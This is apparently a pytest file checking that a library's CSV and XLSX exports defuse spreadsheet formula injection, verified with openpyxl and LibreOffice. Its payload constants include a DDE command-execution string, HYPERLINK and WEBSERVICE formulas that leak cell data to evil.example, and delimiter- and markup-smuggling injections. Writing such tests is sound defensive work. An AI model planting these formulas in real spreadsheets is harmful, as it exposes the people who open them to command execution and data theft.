"""Exported files in the hands of programs that run what they find: nothing in them is live.

Two readers know nothing of what wrote the files: Python's csv module with openpyxl, and LibreOffice where it is
installed.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import unicodedata
import zipfile
from pathlib import Path

import openpyxl
import pyarrow as pa
import pytest

from smwidgets.data.exports import FORMATS, Sheet, write_rows

DDE = "cmd|' /C calc'!A0"
LINK = 'HYPERLINK("http://evil.example/?leak="&A1,"Click")'
STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−")
CALLS = ("1+1", DDE, LINK, 'WEBSERVICE("http://evil.example/"&A1)', 'IMPORTXML("http://evil.example","//a")')
BLANKS = (" ", "\t", "\r", "\n", "\r\n", "\0", "\x01", "\xa0", "\u200b", "\ufeff", "\u2060", "\u202e", "\u3000 ")
QUOTES = ("'", '"', "''", '"\'"')
INJECTIONS = (
    f"x;={DDE}",
    f"x,={DDE}",
    f"x\t={DDE}",
    f"x\n={DDE}",
    f"x\r={DDE}",
    f"x\r\n;={DDE}",
    f'x";={DDE}',
    f'x",={DDE}',
    f'x""";"={DDE}',
    f'";={DDE};"',
    f'",={DDE},"',
    f'"\n={DDE}\n"',
    f"x; \u200b={DDE}",
    f"x,'\"={DDE}",
    f"x;;,,\t={DDE}",
    f"x;＝{DDE}",
    f"x;-5+{DDE}",
    f"x;-5,2+{DDE}",
    f"x,-5;2+{DDE}",
    f"x;-5\n+{DDE}",
    f"x;-5\t+{DDE}",
    f"-5,2+{DDE}",
    f"-5\n+{DDE}",
    f"2+{DDE}",
    f";={DDE}",
    f",={DDE}",
    "x;@SUM(A1);-2+3,+4+5\n-6-7",
)
MARKUP = (
    f'<r><t>x</t></r></is></c><c r="Z9"><f>{DDE}</f></c><c r="Z8" t="inlineStr"><is><r></r>',
    "]]></t></is></c><c><f>1+1</f></c>",
    "</t><f>1+1</f>",
    "&#61;1+1",
    "_x003D_1+1",
    "_x003D_x003D_1",
    "{=1+1}",
    "{=SUM(A1:A9)}",
)
LONG = ("=" + "A" * 40_000, "A" * 32_767 + f"={DDE}", "😀" * 20_000 + f"={DDE}", "x;=" * 15_000, "\t" * 40_000 + "=1")
PAYLOADS = (
    *(f"{start}{call}" for start in STARTS for call in CALLS),
    *(f"{before}={call}" for before in BLANKS + QUOTES for call in CALLS[:2]),
    *INJECTIONS,
    *MARKUP,
    *LONG,
    "-",
    "--5",
    "+48 600 100 200",
    "-1e5+A1",
)
NUMBERS = (-1, -12.5, 0.1 + 0.2, -1e-7, 1234567.89, 0.0)
SEPARATORS = {"pl": ";", "en": ","}

pytestmark = pytest.mark.spec("R3")


def files(tmp_path):
    """Write the payloads as cells, headers and title; returns paths by format and language."""
    size = len(PAYLOADS)
    cells = pa.RecordBatch.from_pydict(
        {
            "number": pa.array([-5] * size),
            "behind": pa.array(PAYLOADS),
            "kinds": pa.array(PAYLOADS).dictionary_encode(),
            "amount": pa.array([-2.5] * size),
            "last": pa.array(PAYLOADS),
        }
    )
    headers = pa.RecordBatch.from_arrays([pa.array([-1])] * size, [f"{place}" for place in range(size)])
    named = {f"{place}": text for place, text in enumerate(PAYLOADS)}
    made = {}
    for format_ in FORMATS:
        for locale in ("pl", "en"):
            for name, batch in (("cells", cells), ("headers", headers)):
                path = tmp_path / f"{name}-{locale}.{format_}"
                with path.open("wb") as file:
                    write_rows(file, [batch], format=format_, locale=locale, sheet=Sheet(f"={DDE}", named))
                made[name, format_, locale] = path
    return made


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    return files(tmp_path_factory.mktemp("files"))


def is_live(cell):
    """Whether some program might take a cell of a text file for a formula; told without the writer's own rules."""
    shown = "".join(mark for mark in cell if unicodedata.category(mark)[0] not in "CZ" and mark not in '"\ufffd')
    first = unicodedata.normalize("NFKC", shown[:1])
    if first[:1] not in {"=", "+", "-", "@", "−"}:
        return False
    # Of a line that is split at the wrong place a number of ours may be the beginning; a quote makes no formula of it.
    wrongly_split = re.match(r'"\r\n|-\d+([.,]\d+)?[;,]["\']', cell)
    return not (wrongly_split or re.fullmatch(r"[+−-]?\d+([.,]\d+)?%?([;,]-\d+)*", shown))


@pytest.fixture
def large_fields():
    before = csv.field_size_limit(2**30)
    yield
    csv.field_size_limit(before)


def test_there_are_payloads_enough():
    assert len(set(PAYLOADS)) >= 130
    assert sum(map(is_live, PAYLOADS)) >= 90, "the check itself finds what is live"


@pytest.mark.parametrize("split_at", [";", ",", "\t", "\n"])
@pytest.mark.parametrize("locale", ["pl", "en"])
@pytest.mark.parametrize("name", ["cells", "headers"])
def test_no_cell_of_a_text_file_is_live_wherever_it_is_split(written, large_fields, name, locale, split_at):
    text = written[name, "csv", locale].read_bytes().decode("utf-8-sig")
    assert "\0" not in text
    if split_at == "\n":
        cells = text.splitlines()
    else:
        cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=split_at) for cell in row]
    assert [cell[:80] for cell in cells if is_live(cell)] == []


@pytest.mark.parametrize("locale", ["pl", "en"])
def test_a_text_file_gives_every_text_back_behind_apostrophes(written, locale):
    text = written["cells", "csv", locale].read_bytes().decode("utf-8-sig")
    _, *rows = csv.reader(io.StringIO(text, newline=""), delimiter=SEPARATORS[locale], strict=True)
    assert len(rows) == len(PAYLOADS)
    for payload, (number, behind, kinds, amount, last) in zip(PAYLOADS, rows, strict=True):
        assert (number, amount) == ("-5", {"pl": "-2,5", "en": "-2.5"}[locale])
        assert behind == kinds == last
        expected = re.sub("[\0\x01]", "\ufffd", payload).replace("'", "")
        assert behind.replace("'", "")[:15_000] == expected[:15_000]
        assert behind.replace("'", "") == expected or len(behind.encode("utf-16-le")) // 2 in range(32_600, 32_768)


@pytest.mark.parametrize("locale", ["pl", "en"])
@pytest.mark.parametrize("name", ["cells", "headers"])
def test_no_cell_of_a_workbook_is_live(written, name, locale):
    path = written[name, "xlsx", locale]
    with zipfile.ZipFile(path) as archive:
        assert [part for part in archive.namelist() if not part.endswith((".rels", ".xml"))] == []
        assert not re.findall("external|hyperlink|vba|connection", " ".join(archive.namelist()), re.IGNORECASE)
        for part in archive.namelist():
            assert not re.search(rb"<(\w+:)?(f|hyperlink|definedName|oleObject)\b", archive.read(part)), part
    (sheet,) = openpyxl.load_workbook(path)
    assert not is_live(sheet.title)
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert not [cell.coordinate for cell in cells if cell.hyperlink]
    assert not [
        cell.value[:80] for cell in cells if cell.data_type == "s" and cell.value[0] in "=+-@" and not cell.quotePrefix
    ]
    if name == "cells":
        for payload, row in zip(PAYLOADS, sheet.iter_rows(min_row=2, values_only=True), strict=True):
            assert (row[0], row[3]) == (-5, -2.5)
            shown = re.sub("[\0\x01]", "\ufffd", re.sub("\r\n?", "\n", payload))
            found = row[1].replace("_x005F_", "_")
            assert found == shown or (len(payload) > 16_000 and found[:16_000] == shown[:16_000])


@pytest.mark.parametrize("payload", [*PAYLOADS, "", "'", "History", "a" * 40, "😀" * 30, "[a]:*?/\\b", "Łódź / Kraków"])
def test_no_title_of_a_sheet_is_live_or_refused(payload):
    for number in (1, 2, 123):
        title = Sheet(payload).title(number)
        assert 1 <= len(title.encode("utf-16-le")) // 2 <= 31
        assert not re.search(r"[\x00-\x1f\[\]:*?/\\]|^['=+@-]|'$", title)
        assert title.casefold() != "history"


@pytest.mark.parametrize("locale", ["pl", "en"])
def test_numbers_come_back_equal(locale, tmp_path):
    batch = pa.RecordBatch.from_pydict({"amount": list(NUMBERS)})
    for format_ in FORMATS:
        path = tmp_path / f"numbers.{format_}"
        with path.open("wb") as file:
            write_rows(file, [batch], format=format_, locale=locale, sheet=Sheet("x"))
    text = (tmp_path / "numbers.csv").read_text("utf-8-sig")
    assert "'" not in text
    rows = list(csv.reader(io.StringIO(text), delimiter=SEPARATORS[locale]))[1:]
    assert [float(row[0].replace(",", ".")) for row in rows] == list(NUMBERS)
    (sheet,) = openpyxl.load_workbook(tmp_path / "numbers.xlsx")
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == list(NUMBERS)


# --- LibreOffice ------------------------------------------------------------------------------------------------------

soffice = pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")


@pytest.fixture(scope="module")
def convert(tmp_path_factory):
    """Open files in LibreOffice and save them as flat XML: ``convert(paths, csv="59/44")`` gives their texts."""
    profile, out = tmp_path_factory.mktemp("profile"), tmp_path_factory.mktemp("opened")

    def run(paths, separators=""):
        command = ["soffice", f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to", "fods"]
        if separators:  # then: quotes, UTF-8, first line, …, formulas are evaluated
            command += [f"--infilter=CSV:{separators},34,76,1,,0,false,true,false,false,false,-1,true"]
        subprocess.run([*command, "--outdir", str(out), *map(str, paths)], check=True, timeout=200, capture_output=True)
        return [(out / Path(path).with_suffix(".fods").name).read_text("utf-8") for path in paths]

    return run


def formulas(opened):
    return re.findall(r"table:formula=\"[^\"]*\"|<text:a\b[^>]*>", opened)


@soffice
@pytest.mark.slow
@pytest.mark.parametrize("separators", ["59", "44", "9", "59/44/9"])
def test_libreoffice_finds_no_formula_in_a_text_file(written, convert, tmp_path, separators):
    control = tmp_path / "control.csv"
    control.write_text("=1+1\n", encoding="utf-8")
    paths = [written[name, "csv", locale] for name in ("cells", "headers") for locale in ("pl", "en")]
    live, *opened = convert([control, *paths], separators)
    assert formulas(live), "this LibreOffice runs no formula of a text file at all: the check is void"
    assert [formulas(one) for one in opened] == [[]] * len(paths)


@soffice
@pytest.mark.slow
def test_libreoffice_finds_no_formula_in_a_workbook_and_the_same_values(written, convert, tmp_path):
    control = tmp_path / "control.xlsx"
    book = openpyxl.Workbook()
    book.active["A1"] = "=1+1"
    book.save(control)
    paths = [written[name, "xlsx", "pl"] for name in ("cells", "headers")]
    live, *opened = convert([control, *paths])
    assert formulas(live)
    assert [formulas(one) for one in opened] == [[], []]
    assert opened[0].count('office:value="-5"') == opened[0].count('office:value="-2.5"') == len(PAYLOADS)
    assert "=cmd|" in opened[0]


@soffice
@pytest.mark.slow
@pytest.mark.parametrize("locale", ["pl", "en"])
def test_libreoffice_reads_numbers_and_times_as_such(convert, tmp_path, locale):
    batch = pa.RecordBatch.from_pydict(
        {"amount": [-12.5, 1234.25], "at": pa.array([0, 1_770_000_000], pa.timestamp("s", tz="Europe/Warsaw"))}
    )
    path = tmp_path / "typed.xlsx"
    with path.open("wb") as file:
        write_rows(file, [batch], format="xlsx", locale=locale, sheet=Sheet("x"))
    (opened,) = convert([path])
    assert re.findall(r'office:value="([^"]*)"', opened) == ["-12.5", "1234.25"]
    assert re.findall(r'office:date-value="([^"]*)"', opened) == ["1970-01-01T01:00:00", "2026-02-02T03:40:00"]
